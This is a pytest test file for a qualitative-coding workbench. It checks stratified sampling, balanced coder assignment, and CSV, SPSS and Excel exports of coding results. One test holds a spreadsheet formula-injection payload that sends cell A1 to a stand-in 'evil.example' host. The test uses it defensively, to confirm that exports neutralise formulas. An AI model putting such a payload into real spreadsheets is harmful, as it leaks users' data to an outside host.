"""The framework-free parts of the workbench: sampling and assignment, and the export formats."""

import io

import pandas as pd
import pyreadstat
import pytest

from mango.lib import coding_export, sampling
from mango.lib.coding_export import CodeInfo, RoundData

# --- sampling -----------------------------------------------------------------------------------


def test_allocation_is_proportional_by_largest_remainder():
    assert sampling.allocate({"a": 50, "b": 30, "c": 20}, 10) == {"a": 5, "b": 3, "c": 2}
    assert sampling.allocate({"a": 2, "b": 1}, 2) == {"a": 1, "b": 1}
    assert sum(sampling.allocate({"a": 7, "b": 5, "c": 1}, 6).values()) == 6
    assert sampling.allocate({"a": 3}, 10) == {"a": 3}
    with pytest.raises(ValueError, match="negative"):
        sampling.allocate({"a": 3}, -1)


def test_a_stratified_sample_is_reproducible_and_keeps_the_proportions():
    strata = {"pro": list(range(100)), "onco": list(range(100, 400))}
    one = sampling.stratified_sample(strata, 40, seed=5)
    assert one == sampling.stratified_sample(strata, 40, seed=5)
    assert one != sampling.stratified_sample(strata, 40, seed=6)
    assert len(one) == len(set(one)) == 40
    assert sum(x < 100 for x in one) == 10


def test_each_story_goes_to_distinct_coders_and_the_load_is_balanced():
    pairs = sampling.assign(list(range(30)), ["a", "b", "c"], 2)
    by_unit = {}
    for unit, coder in pairs:
        by_unit.setdefault(unit, []).append(coder)
    assert all(len(set(c)) == 2 for c in by_unit.values())
    load = pd.Series([c for _, c in pairs]).value_counts()
    assert load.max() - load.min() <= 1
    meetings = {frozenset(c) for c in by_unit.values()}
    assert len(meetings) == 3  # every pair of coders shares stories
    with pytest.raises(ValueError, match="1 to 3 coders"):
        sampling.assign([1], ["a", "b", "c"], 4)
    with pytest.raises(ValueError, match="at least one coder"):
        sampling.assign([1], [], 1)


# --- exports ------------------------------------------------------------------------------------


def data(multiple=True) -> RoundData:
    codes = [CodeInfo("respect", "Respect"), CodeInfo("physical-comfort", "Physical comfort")]
    codings = pd.DataFrame(
        [
            (1, "ann", "respect", 1),
            (1, "ann", "physical-comfort", 0),
            (1, "bob", "respect", 1),
            (1, "bob", "physical-comfort", 1),
            (2, "ann", "respect", 0),
            (2, "ann", "physical-comfort", 1),
        ],
        columns=["story", "coder", "code", "value"],
    )
    finals = pd.DataFrame(
        [(1, "respect", 1, "adjudicated"), (1, "physical-comfort", 0, "adjudicated")],
        columns=["story", "code", "value", "method"],
    )
    stories = pd.DataFrame([(1, "patient"), (2, "professional")], columns=["story", "teller_role"])
    return RoundData(
        round_name="R",
        codebook="dims",
        multiple=multiple,
        codes=codes,
        codings=codings,
        finals=finals,
        stories=stories,
        attribute_labels={
            "teller_role": ("Told by", {"patient": "Patient", "professional": "Pro"})
        },
    )


def test_variable_names_are_valid_unique_and_short():
    taken = set()
    assert coding_export.variable_name("physical-comfort", taken) == "physical_comfort"
    assert coding_export.variable_name("physical_comfort", taken) == "physical_comfort_2"
    assert coding_export.variable_name("1st", taken) == "c_1st"
    assert len(coding_export.variable_name("x" * 60, taken)) == 32


def test_the_wide_final_table_has_one_row_per_settled_story():
    wide = coding_export.wide(data(), "final")
    assert wide.frame.to_dict("records") == [
        {"story": 1, "respect": 1, "physical_comfort": 0, "teller_role": "patient"}
    ]
    codings = coding_export.wide(data(), "codings").frame
    assert len(codings) == 3
    assert codings.set_index(["story", "coder"]).loc[(2, "ann"), "respect"] == 0


def test_a_single_code_codebook_becomes_one_categorical_variable():
    d = data(multiple=False)
    d.finals = pd.DataFrame(
        [(1, "respect", 0, "agreed"), (1, "physical-comfort", 1, "agreed")],
        columns=["story", "code", "value", "method"],
    )
    wide = coding_export.wide(d, "final")
    assert wide.frame["dims"].tolist() == [2]
    assert wide.variables[1].values == {1: "Respect", 2: "Physical comfort"}


def test_the_sav_file_carries_variable_and_value_labels(tmp_path):
    path = tmp_path / "c.sav"
    path.write_bytes(coding_export.to_sav(data(), "codings"))
    frame, meta = pyreadstat.read_sav(str(path))
    assert meta.column_names_to_labels["physical_comfort"] == "Physical comfort"
    assert meta.variable_value_labels["respect"] == {0.0: "absent", 1.0: "present"}
    assert meta.variable_value_labels["teller_role"] == {1.0: "Patient", 2.0: "Pro"}
    assert frame["coder"].tolist() == ["ann", "bob", "ann"]
    assert frame["teller_role"].tolist() == [1.0, 1.0, 2.0]


def test_the_dictionary_describes_every_wide_variable():
    dictionary = pd.read_csv(io.BytesIO(coding_export.dictionary_csv(data(), "final")))
    assert dictionary["variable"].tolist() == [
        "story",
        "respect",
        "physical_comfort",
        "teller_role",
    ]
    assert "0 = absent; 1 = present" in dictionary.set_index("variable").loc["respect", "values"]


def test_an_empty_round_exports_headers_only():
    d = data()
    d.finals = d.finals.iloc[0:0]
    frame = pd.read_csv(io.BytesIO(coding_export.wide_csv(d, "final")))
    assert frame.empty and "respect" in frame.columns
    with pytest.raises(ValueError):
        coding_export.wide(d, "other")


def test_names_in_the_exports_are_never_formulas():
    import csv
    import dataclasses

    from openpyxl import load_workbook

    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    rd = dataclasses.replace(
        data(), round_name=evil, codes=[CodeInfo("respect", "+Respect"), data().codes[1]]
    )
    for raw in (coding_export.long_csv(rd, "codings"), coding_export.dictionary_csv(rd, "final")):
        cells = [c for row in csv.reader(io.StringIO(raw.decode())) for c in row]
        assert not any(c[:1] in "=+-@" for c in cells if c)
        assert "'" + evil in cells or "'+Respect" in cells
    book = load_workbook(io.BytesIO(coding_export.to_xlsx(rd)))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert not any(c.data_type == "f" for c in cells)
    assert evil in [c.value for c in cells]
